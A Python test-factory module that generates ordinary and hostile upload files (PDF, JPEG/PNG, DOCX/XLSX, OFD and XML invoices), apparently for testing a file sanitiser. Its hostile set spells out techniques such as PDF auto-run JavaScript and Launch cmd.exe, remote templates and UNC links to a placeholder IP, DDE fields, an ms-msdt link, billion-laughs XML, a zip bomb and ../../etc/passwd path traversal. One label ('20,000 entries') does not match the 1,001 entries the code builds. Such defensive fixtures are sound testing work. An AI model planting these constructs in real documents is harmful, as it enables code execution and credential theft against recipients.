@@ -1,0 +1,644 @@
+"""Files as people upload them, ordinary and hostile, made on the spot: no file is from anybody."""
+
+import io
+import random
+import zipfile
+from collections.abc import Callable, Mapping
+from functools import cache
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
+from PIL import Image, PngImagePlugin
+
+from tests.factories.registers import jpeg_file, office_file, pdf_file, png_file
+
+UNC = "\\\\203.0.113.7\\share\\x"
+WEB = "http://203.0.113.7/x"
+MAIN = "application/vnd.openxmlformats-officedocument"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
+WORD_RELATIONS = "word/_rels/document.xml.rels"
+
+# The smallest PDF of the trials: no page, no table of objects.
+BARE_PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+)
+
+
+# --- PDF ---
+
+
+def pdf_with(change: Callable[[Pdf], None], *, packed: bool = False, **saved: object) -> bytes:
+    """A PDF of one page with words on it, changed; `packed` puts its objects into streams."""
+    pdf = Pdf.open(io.BytesIO(written_page()))
+    change(pdf)
+    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.preserve
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=mode, compress_streams=packed, **saved)
+    return out.getvalue()
+
+
+@cache
+def written_page() -> bytes:
+    """A page that shows a line of words."""
+    pdf = Pdf.new()
+    pdf.add_blank_page(page_size=(300, 100))
+    page = pdf.pages[0].obj
+    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    page.Resources = Dictionary(Font=Dictionary(F1=font))
+    page.Contents = Stream(pdf, b"BT /F1 20 Tf 20 40 Td (Service record 2026) Tj ET")
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def action(kind: str, **more: object) -> Dictionary:
+    return Dictionary(S=Name(f"/{kind}"), **more)
+
+
+def opens_with(done: Dictionary) -> Callable[[Pdf], None]:
+    return lambda pdf: setattr(pdf.Root, "OpenAction", done)
+
+
+def annotated(**annotation: object) -> Callable[[Pdf], None]:
+    def change(pdf: Pdf) -> None:
+        rect = Array([0, 0, 50, 50])
+        pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=rect, **annotation)])
+
+    return change
+
+
+def linked(done: Dictionary) -> Callable[[Pdf], None]:
+    return annotated(Subtype=Name.Link, A=done)
+
+
+def attached(name: str, content: bytes) -> Callable[[Pdf], None]:
+    def change(pdf: Pdf) -> None:
+        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
+
+    return change
+
+
+def both(*changes: Callable[[Pdf], None]) -> Callable[[Pdf], None]:
+    def change(pdf: Pdf) -> None:
+        for one in changes:
+            one(pdf)
+
+    return change
+
+
+def signed(pdf: Pdf) -> None:
+    """The places of a signature, as a reader finds them."""
+    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 10, 20, 10]), Contents=String("00"))
+    field = Dictionary(FT=Name.Sig, T=String("sig"), V=pdf.make_indirect(value))
+    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
+
+
+def _names_of_scripts(pdf: Pdf) -> None:
+    leaf = Array([String("x"), pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))])
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=leaf))
+
+
+def _xfa(pdf: Pdf) -> None:
+    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp/>"))
+
+
+def _field_that_counts(pdf: Pdf) -> None:
+    script = action("JavaScript", JS=Stream(pdf, b"AFSimple_Calculate()"))
+    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(C=script))
+    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))
+
+
+def _chained(pdf: Pdf) -> None:
+    second = pdf.make_indirect(action("Launch", F=String("cmd.exe")))
+    page = pdf.pages[0].obj
+    pdf.Root.OpenAction = action("GoTo", D=Array([page, Name.Fit]), Next=Array([second]))
+
+
+def _page_opens(pdf: Pdf) -> None:
+    pdf.pages[0].obj.AA = Dictionary(O=action("URI", URI=String(WEB)))
+
+
+def _stream_elsewhere(pdf: Pdf) -> None:
+    pdf.pages[0].obj.Contents.stream_dict["/F"] = String(UNC)
+
+
+def _portfolio(pdf: Pdf) -> None:
+    attached("正文.docx", b"PK")(pdf)
+    pdf.Root.Collection = Dictionary(Type=Name.Collection)
+
+
+SCRIPT = action("JavaScript", JS=String("app.alert(1)"))
+HOSTILE_PDFS: Mapping[str, Callable[[], bytes]] = {
+    "script when opened": lambda: pdf_with(opens_with(SCRIPT)),
+    "script in a stream of objects": lambda: pdf_with(opens_with(SCRIPT), packed=True),
+    "script with a name in signs": lambda: pdf_with(opens_with(SCRIPT)).replace(
+        b"/JavaScript", b"/J#61vaScript"
+    ),
+    "action with a key in signs": lambda: pdf_with(opens_with(SCRIPT)).replace(
+        b"/OpenAction", b"/Open#41ction"
+    ),
+    "script by name": lambda: pdf_with(_names_of_scripts),
+    "script by name, packed": lambda: pdf_with(_names_of_scripts, packed=True),
+    "script in a link": lambda: pdf_with(linked(SCRIPT)),
+    "script of a field": lambda: pdf_with(_field_that_counts),
+    "script nobody points to": lambda: (
+        pdf_file(b"9 0 obj<</S/JavaScript/JS(x)>>endobj") + b"%%EOF\n"
+    ),
+    "script behind a password of the owner": lambda: pdf_with(
+        opens_with(SCRIPT), encryption=pikepdf.Encryption(owner="o", user="")
+    ),
+    "web address when opened": lambda: pdf_with(opens_with(action("URI", URI=String(WEB)))),
+    "web address when a page shows": lambda: pdf_with(_page_opens),
+    "launch": lambda: pdf_with(opens_with(action("Launch", F=String("cmd.exe")))),
+    "launch in a link": lambda: pdf_with(linked(action("Launch", Win=Dictionary(F=String("c"))))),
+    "launch behind a going": lambda: pdf_with(_chained),
+    "another file on the network": lambda: pdf_with(linked(action("GoToR", F=String(UNC)))),
+    "another file on the network when opened": lambda: pdf_with(
+        opens_with(action("GoToR", F=String(UNC)))
+    ),
+    "a file inside another": lambda: pdf_with(linked(action("GoToE", F=String(UNC)))),
+    "link to a share": lambda: pdf_with(linked(action("URI", URI=String(UNC)))),
+    "link to a file": lambda: pdf_with(linked(action("URI", URI=String("file://h/x")))),
+    "link that is a script": lambda: pdf_with(
+        linked(action("URI", URI=String("JavaScript:app.alert(1)")))
+    ),
+    "form that sends": lambda: pdf_with(linked(action("SubmitForm", F=String(WEB)))),
+    "form that reads": lambda: pdf_with(linked(action("ImportData", F=String(UNC)))),
+    "program inside": lambda: pdf_with(attached("a.exe", b"MZ")),
+    "program inside, packed": lambda: pdf_with(attached("a.exe", b"MZ"), packed=True),
+    "file as a note": lambda: pdf_with(
+        annotated(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a")))
+    ),
+    "media": lambda: pdf_with(
+        annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))
+    ),
+    "screen with a rendition": lambda: pdf_with(
+        annotated(Subtype=Name.Screen, A=action("Rendition", JS=String("app.alert(1)")))
+    ),
+    "film": lambda: pdf_with(annotated(Subtype=Name.Movie, A=True)),
+    "three dimensions": lambda: pdf_with(annotated(Subtype=Name("/3D"))),
+    "form made by a program": lambda: pdf_with(_xfa),
+    "content in another file": lambda: pdf_with(_stream_elsewhere),
+    "collection": lambda: pdf_with(_portfolio),
+    "web page in front": lambda: b"<html><script>x()</script>\n" + pdf_file(),
+    "web page inside": lambda: pdf_file(b"%<html><script>x()</script></html>"),
+    "archive behind": lambda: pdf_file() + zipped({"a.js": b"x"}),
+    "program in front": lambda: b"MZ\x90\0" + bytes(60) + pdf_file(),
+    "locked": lambda: pdf_with(
+        lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="u")
+    ),
+    "locked by what is not there": lambda: BARE_PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"),
+    "no PDF behind its head": lambda: b"%PDF-1.4 garbage %%EOF",
+    "signed and active": lambda: pdf_with(both(signed, opens_with(SCRIPT))),
+    "signed with a program inside": lambda: pdf_with(both(signed, attached("a.exe", b"MZ"))),
+}
+ORDINARY_PDFS: Mapping[str, Callable[[], bytes]] = {
+    "as printed": written_page,
+    "packed": lambda: pdf_with(lambda pdf: None, packed=True),
+    "bare": lambda: BARE_PDF,
+    "words of scripts": lambda: scan(b"(TypeScript/JavaScript) /Launch /JS "),
+    "with a mark in front": lambda: b"\xef\xbb\xbf" + pdf_file(),
+    "with a line in front": lambda: b"\r\n" + pdf_file(),
+    "bare with a mark in front": lambda: b"\xef\xbb\xbf" + BARE_PDF,
+    "bare with a line in front": lambda: b"\r\n" + BARE_PDF,
+    "with padding behind": lambda: pdf_file() + bytes(4096),
+    "bare with padding behind": lambda: BARE_PDF + bytes(4096),
+    "no printing allowed": lambda: pdf_with(
+        lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="")
+    ),
+    "link to the web": lambda: pdf_with(linked(action("URI", URI=String("https://gov.cn/")))),
+    "goes to its first page": lambda: pdf_with(
+        lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit]))
+    ),
+    "signed": lambda: pdf_with(signed),
+    "signed with the data of the invoice": lambda: pdf_with(
+        both(signed, attached("invoice.xml", b"<EInvoice/>"))
+    ),
+}
+
+
+def scan(pixels: bytes) -> bytes:
+    """A page that shows an opaque picture, whatever its bytes look like."""
+    pdf = Pdf.new()
+    pdf.add_blank_page(page_size=(300, 300))
+    picture = Stream(pdf, pixels)
+    picture.stream_dict.update(
+        {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": len(pixels), "/Height": 1}
+    )
+    picture["/ColorSpace"], picture["/BitsPerComponent"] = Name.DeviceGray, 8
+    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False)
+    return out.getvalue()
+
+
+def random_scan(seed: int) -> bytes:
+    """A scan with the names of actions among its random bytes, as large scans have them."""
+    made = random.Random(seed)
+    marks = (
+        b"/JS ",
+        b"/JavaScript ",
+        b"/Launch ",
+        b"/RichMedia ",
+        b"/XFA ",
+        b"/AA<<>>",
+        b"PK\x03\x04",
+    )
+    parts = [made.randbytes(made.randrange(1, 900)) for _ in range(4)]
+    return scan(b"".join(part + made.choice(marks) for part in parts))
+
+
+# --- photographs ---
+
+
+def place(**more: object) -> bytes:
+    """A camera's data that tells way up, time, model and place."""
+    exif = Image.Exif()
+    exif[0x0112], exif[0x0110] = 6, "Phone"
+    exif.get_ifd(0x8769)[0x9003] = "2026:05:06 09:00:00"
+    exif.get_ifd(0x8769)[0x927C] = b"closed book"
+    exif.get_ifd(0x8825).update({1: "N", 2: (22.0, 13.0, 30.0), 3: "E", 4: (113.0, 17.0, 0.0)})
+    return exif.tobytes()
+
+
+def way_up() -> bytes:
+    """A camera's data without a place."""
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    return exif.tobytes()
+
+
+XMP_PLACE = b'<x:xmpmeta><rdf exif:GPSLatitude="22,13.5N"/></x:xmpmeta>'
+FILM = b"\0\0\0\x18ftypmp42" + bytes(40) + b"\xa9xyz+22.2250+113.2833/"
+
+
+def png_saved(**saved: object) -> bytes:
+    out = io.BytesIO()
+    Image.linear_gradient("L").resize((16, 16)).save(out, "PNG", **saved)
+    return out.getvalue()
+
+
+def png_words(keyword: str, words: str, *, packed: bool) -> bytes:
+    info = PngImagePlugin.PngInfo()
+    info.add_itxt(keyword, words, zip=packed)
+    return png_saved(pnginfo=info)
+
+
+HOSTILE_PHOTOS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "place": ("a.jpg", lambda: jpeg_file(exif=place())),
+    "place, progressive": ("a.jpg", lambda: jpeg_file(exif=place(), progressive=True)),
+    "place in other data": ("a.jpg", lambda: jpeg_file(xmp=XMP_PLACE)),
+    "place in a comment": ("a.jpg", lambda: jpeg_file(comment=b"GPSLatitude=22.2")),
+    "film behind": ("a.jpeg", lambda: jpeg_file() + FILM),
+    "film behind, place in front": ("a.jpg", lambda: jpeg_file(exif=place()) + FILM),
+    "second picture behind": ("a.jpg", lambda: jpeg_file() + jpeg_file(exif=place())),
+    "archive behind": ("a.jpg", lambda: jpeg_file() + zipped({"a.js": b"x"})),
+    "place in a PNG": ("a.png", lambda: png_saved(exif=place())),
+    "place in words of a PNG": (
+        "a.png",
+        lambda: png_words("XML:com.adobe.xmp", XMP_PLACE.decode(), packed=False),
+    ),
+    "place in packed words of a PNG": (
+        "a.png",
+        lambda: png_words("XML:com.adobe.xmp", XMP_PLACE.decode(), packed=True),
+    ),
+    "data behind a PNG": ("a.png", lambda: png_file() + b"<script>x()</script>"),
+    "900 million pixels": ("a.png", lambda: png_file(30_000, 30_000)),
+    "HEIC by another name": ("a.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(99)),
+}
+ORDINARY_PHOTOS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "as saved": ("IMG_1.jpeg", jpeg_file),
+    "progressive": ("a.jpg", lambda: jpeg_file(progressive=True)),
+    "way up": ("a.jpg", lambda: jpeg_file(exif=way_up())),
+    "padding of 63": ("a.jpg", lambda: jpeg_file() + bytes(63)),
+    "padding of 100,000": ("a.jpg", lambda: jpeg_file() + b"\xff" * 100_000),
+    "without its end": ("a.jpg", lambda: jpeg_file()[:-2]),
+    "PNG": ("a.png", png_file),
+    "PNG with padding": ("a.png", lambda: png_file() + bytes(5)),
+    "PNG with a way up": ("a.png", lambda: png_saved(exif=way_up())),
+}
+
+
+# --- office ---
+
+
+def zipped(parts: Mapping[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", packing) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def relation(kind: str, target: str = WEB, **more: str) -> bytes:
+    said = "".join(f' {name}="{words}"' for name, words in more.items())
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="{target}"{said}/></Relationships>'
+    ).encode()
+
+
+def outside(kind: str, target: str = WEB) -> bytes:
+    return relation(kind, target, TargetMode="External")
+
+
+def wide(xml: bytes) -> bytes:
+    """The same XML in UTF-16, as Office reads it too."""
+    return ('<?xml version="1.0" encoding="UTF-16"?>' + xml.decode()).encode("utf-16")
+
+
+def late(xml: bytes) -> bytes:
+    """The same with more than 1 MiB before what matters; random, or it would be a bomb."""
+    blank = random.Random(1).randbytes(600_000).hex().encode()
+    at = xml.index(b"<Relationship ") if b"<Relationship " in xml else 0
+    return xml[:at] + b"<!--" + blank + b"-->" + xml[at:]
+
+
+def types(**overrides: str) -> bytes:
+    said = {"word/document.xml": f"{MAIN}.wordprocessingml.document.main+xml", **overrides}
+    lines = "".join(f'<Override PartName="/{k}" ContentType="{v}"/>' for k, v in said.items())
+    return f"<Types>{lines}</Types>".encode()
+
+
+def word(**parts: bytes) -> bytes:
+    return office_file(extra={name: content for name, content in parts.items()})
+
+
+def field_of(*pieces: str, simple: bool = False) -> bytes:
+    """A document with a field, its instruction cut into these pieces."""
+    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    if simple:
+        return f'<w:document {w}><w:fldSimple w:instr="{"".join(pieces)}"/></w:document>'.encode()
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return (
+        f'<w:document {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>'
+    ).encode()
+
+
+MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
+TEMPLATE = outside("attachedTemplate")
+DOCTYPE = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
+LAUGHS = (
+    b"<!DOCTYPE a [<!ENTITY x0 'ha'>"
+    + b"".join(b"<!ENTITY x%d '%s'>" % (n, b"&x%d;" % (n - 1) * 10) for n in range(1, 9))
+    + b"]><a>&x8;</a>"
+)
+MADE_UP = field_of(
+    "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r>"
+    "<w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
+    "<w:r><w:instrText>AUTO c calc"
+)
+HOSTILE_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "template from the web": ("a.docx", lambda: word(**{WORD_RELATIONS: TEMPLATE})),
+    "template in UTF-16": ("a.docx", lambda: word(**{WORD_RELATIONS: wide(TEMPLATE)})),
+    "template late": ("a.docx", lambda: word(**{WORD_RELATIONS: late(TEMPLATE)})),
+    "template with a sign in its mode": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: TEMPLATE.replace(b"External", b"Ext&#101;rnal")}),
+    ),
+    "template that says hyperlink": (
+        "a.docx",
+        lambda: word(
+            **{WORD_RELATIONS: TEMPLATE.replace(b"Id=", b"""Note="Type='/hyperlink'" Id=""")}
+        ),
+    ),
+    "template of another part": (
+        "a.docx",
+        lambda: word(**{"word/_rels/settings.xml.rels": outside("attachedTemplate", UNC)}),
+    ),
+    "template without a mode": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: relation("attachedTemplate")}),
+    ),
+    "picture on a share": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("image", UNC)})),
+    "picture by file address": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: outside("image", "file://203.0.113.7/x.png")}),
+    ),
+    "link to a share": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("hyperlink", UNC)})),
+    "link that is a program": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: outside("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
+    ),
+    "object from the web": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: outside("oleObject", f"mhtml:{WEB}!x-usc:{WEB}")}),
+    ),
+    "frame from the web": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("frame")})),
+    "other text inside": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: relation("aFChunk", "a.rtf"), "word/a.bin": b"{\\rtf1}"}),
+    ),
+    "picture in the text": (
+        "a.docx",
+        lambda: word(**{"word/header1.xml": b'<v:imagedata xmlns:v="v" src="http://x/a.png"/>'}),
+    ),
+    "document type": ("a.docx", lambda: word(**{"word/a.xml": DOCTYPE})),
+    "document type in UTF-16": ("a.docx", lambda: word(**{"word/a.xml": wide(DOCTYPE)})),
+    "document type late": ("a.docx", lambda: word(**{"word/a.xml": late(DOCTYPE)})),
+    "document type under another ending": (
+        "a.docx",
+        lambda: word(
+            **{"[Content_Types].xml": types(**{"word/a.bin": "a/b+xml"}), "word/a.bin": DOCTYPE}
+        ),
+    ),
+    "billion laughs": ("a.docx", lambda: word(**{"word/a.xml": LAUGHS})),
+    "macro type": (
+        "a.docx",
+        lambda: word(**{"[Content_Types].xml": types(**{"word/x.xml": MACRO})}),
+    ),
+    "macro type in UTF-16": (
+        "a.docx",
+        lambda: word(**{"[Content_Types].xml": wide(types(**{"word/x.xml": MACRO}))}),
+    ),
+    "macros": ("a.docx", lambda: word(**{"word/vbaProject.bin": OLE})),
+    "macros under another name": ("a.docx", lambda: word(**{"word/media/image1.bin": OLE})),
+    "macros by relation": (
+        "a.docx",
+        lambda: word(
+            **{
+                WORD_RELATIONS: relation("x", "p.dat")
+                .replace(
+                    b"http://schemas.openxmlformats.org/officeDocument",
+                    b"http://schemas.microsoft.com/office",
+                )
+                .replace(b'/x"', b'/vbaProject"'),
+                "word/p.dat": b"x",
+            }
+        ),
+    ),
+    "object": ("a.docx", lambda: word(**{"word/embeddings/oleObject1.bin": OLE})),
+    "object by relation": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: relation("oleObject", "o.dat"), "word/o.dat": b"x"}),
+    ),
+    "control": ("a.docx", lambda: word(**{"word/activeX/activeX1.xml": b"<a/>"})),
+    "program inside": ("a.docx", lambda: word(**{"word/embeddings/a.exe": b"MZ"})),
+    "program as a picture": ("a.docx", lambda: word(**{"word/media/image1.png": b"MZ\x90"})),
+    "DDE": ("a.docx", lambda: word(**{"word/document.xml": field_of(" DDEAUTO c calc ")})),
+    "DDE in pieces": (
+        "a.docx",
+        lambda: word(**{"word/document.xml": field_of(" DD", "EAU", "TO c calc")}),
+    ),
+    "DDE in small letters": (
+        "a.docx",
+        lambda: word(**{"word/footer1.xml": field_of('dde "c:\\\\x" a', simple=True)}),
+    ),
+    "DDE made of numbers": ("a.docx", lambda: word(**{"word/document.xml": MADE_UP})),
+    "text from elsewhere": (
+        "a.docx",
+        lambda: word(**{"word/document.xml": field_of(f'INCLUDETEXT "{WEB}"')}),
+    ),
+    "DDE of a sheet": (
+        "a.xlsx",
+        lambda: office_file(
+            "xlsx",
+            {
+                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="c"/></externalLink>'
+            },
+        ),
+    ),
+    "DDE in a formula": (
+        "a.xlsx",
+        lambda: office_file(
+            "xlsx", {"xl/worksheets/sheet1.xml": b"<c><f>cmd|' /C calc'!A0</f></c>"}
+        ),
+    ),
+    "macro sheet": (
+        "a.xlsx",
+        lambda: office_file("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}),
+    ),
+    "data when opened": (
+        "a.xlsx",
+        lambda: office_file(
+            "xlsx", {"xl/connections.xml": b'<a><connection id="1" refreshOnLoad="1"/></a>'}
+        ),
+    ),
+    "bomb": ("a.docx", lambda: word(**{"word/big.xml": b"0" * 30_000_000})),
+    "20,000 entries": ("a.docx", lambda: word(**{f"{n}.xml": b"" for n in range(1_001)})),
+    "out of its folder": ("a.docx", lambda: word(**{"../../etc/passwd": b"x"})),
+    "with a password": (
+        "a.docx",
+        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99),
+    ),
+    "sheet with a password": (
+        "a.xlsx",
+        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99),
+    ),
+    "old Word": ("a.docx", lambda: OLE),
+    "signed with a template from the web": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: TEMPLATE, "_xmlsignatures/sig1.xml": b"<a/>"}),
+    ),
+}
+
+
+def chart() -> bytes:
+    """A document with a chart and the workbook behind it, as Word saves it."""
+    return word(
+        **{
+            WORD_RELATIONS: relation("chart", "charts/chart1.xml"),
+            "word/charts/chart1.xml": b"<c:chart xmlns:c='c'/>",
+            "word/charts/_rels/chart1.xml.rels": relation(
+                "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"
+            ),
+            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": office_file("xlsx"),
+        }
+    )
+
+
+def online() -> bytes:
+    """What Word in the browser saves: the main part has another name."""
+    main = f"{MAIN}.wordprocessingml.document.main+xml"
+    listed = f'<Types><Override PartName="/word/document22.xml" ContentType="{main}"/></Types>'
+    return zipped({"[Content_Types].xml": listed.encode(), "word/document22.xml": b"<d/>"})
+
+
+OWN_TEMPLATE = outside("attachedTemplate", "file:///C:\\Users\\li\\Templates\\Normal.dotm")
+ORDINARY_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "document": ("a.docx", office_file),
+    "sheet": ("a.xlsx", lambda: office_file("xlsx")),
+    "with a chart": ("a.docx", chart),
+    "saved in the browser": ("a.docx", online),
+    "template on one's own disk": ("a.docx", lambda: word(**{WORD_RELATIONS: OWN_TEMPLATE})),
+    "linked logo": (
+        "a.docx",
+        lambda: word(**{WORD_RELATIONS: outside("image", "file:///D:\\logo.png")}),
+    ),
+    "link to the web": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("hyperlink")})),
+    "table of contents": (
+        "a.docx",
+        lambda: word(**{"word/document.xml": field_of(' TOC \\o "1-3" ')}),
+    ),
+    "picture from a web page": (
+        "a.docx",
+        lambda: word(**{"word/document.xml": field_of(f' INCLUDEPICTURE "{WEB}" \\d')}),
+    ),
+    "UTF-16": ("a.docx", lambda: word(**{"word/document.xml": wide(b"<d>text</d>")})),
+    "other workbook on one's own disk": (
+        "a.xlsx",
+        lambda: office_file(
+            "xlsx",
+            {
+                "xl/externalLinks/_rels/externalLink1.xml.rels": outside(
+                    "externalLinkPath", "file:///D:\\2025.xlsx"
+                )
+            },
+        ),
+    ),
+}
+
+
+# --- invoices ---
+
+
+def ofd(**parts: bytes) -> bytes:
+    root = b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD"/>'
+    return zipped(
+        {"OFD.xml": root, "Doc_0/Document.xml": b"<ofd:Document xmlns:ofd='o'/>", **parts}
+    )
+
+
+def acts(event: str) -> bytes:
+    said = f'<a:Action Event="{event}"><a:URI URI="{WEB}"/></a:Action>'
+    return f'<a:Document xmlns:a="http://www.ofdspec.org/2016">{said}</a:Document>'.encode()
+
+
+HOSTILE_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "OFD that opens an address": ("a.ofd", lambda: ofd(**{"Doc_0/Document.xml": acts("DO")})),
+    "OFD with a program": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.exe": b"MZ"})),
+    "OFD with a document type": ("a.ofd", lambda: ofd(**{"Doc_0/x.xml": DOCTYPE})),
+    "archive called OFD": ("a.ofd", lambda: zipped({"a.txt": b"x"})),
+    "XML with a document type": ("a.xml", lambda: DOCTYPE),
+    "XML in UTF-16 with a document type": ("a.xml", lambda: wide(DOCTYPE)),
+    "XML with laughs": ("a.xml", lambda: LAUGHS),
+    "XML that is a web page": (
+        "a.xml",
+        lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>',
+    ),
+    "XML with a style": ("a.xml", lambda: b'<?xml-stylesheet href="http://x/a.xsl"?><a/>'),
+    "XML that breaks off": ("a.xml", lambda: b"<EInvoice><Head>"),
+}
+ORDINARY_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "OFD": ("a.ofd", ofd),
+    "OFD with a link": ("a.ofd", lambda: ofd(**{"Doc_0/Document.xml": acts("CLICK")})),
+    "XML": ("a.xml", "<EInvoice><Header>发票</Header></EInvoice>".encode),
+    "XML with a mark": ("a.xml", lambda: b"\xef\xbb\xbf<?xml version='1.0'?><EInvoice/>"),
+    "XML in UTF-16": ("a.xml", lambda: wide(b"<EInvoice/>")),
+}
+
+HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    **{f"PDF: {name}": ("a.pdf", made) for name, made in HOSTILE_PDFS.items()},
+    **{f"photo: {name}": made for name, made in HOSTILE_PHOTOS.items()},
+    **{f"office: {name}": made for name, made in HOSTILE_OFFICE.items()},
+    **{f"invoice: {name}": made for name, made in HOSTILE_INVOICES.items()},
+}
+ORDINARY: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    **{f"PDF: {name}": ("a.pdf", made) for name, made in ORDINARY_PDFS.items()},
+    **{f"photo: {name}": made for name, made in ORDINARY_PHOTOS.items()},
+    **{f"office: {name}": made for name, made in ORDINARY_OFFICE.items()},
+    **{f"invoice: {name}": made for name, made in ORDINARY_INVOICES.items()},
+}
